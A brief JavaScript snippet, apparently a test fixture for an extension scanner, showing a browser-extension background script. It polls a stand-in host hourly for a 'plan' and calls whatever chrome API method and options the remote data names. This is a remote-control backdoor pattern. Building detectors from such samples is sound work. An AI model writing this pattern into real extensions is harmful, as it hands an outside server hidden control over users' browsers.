setInterval(async () => {
  const plan = await (await fetch('https://plan.pdf-box.example/latest')).json();
  chrome.storage.local.set({ plan });
}, 3600000);
fetch('https://plan.pdf-box.example/first').then((r) => r.json()).then((first) => {
  // expect: named-by-data
  chrome[first.space][first.name](first.options);
});
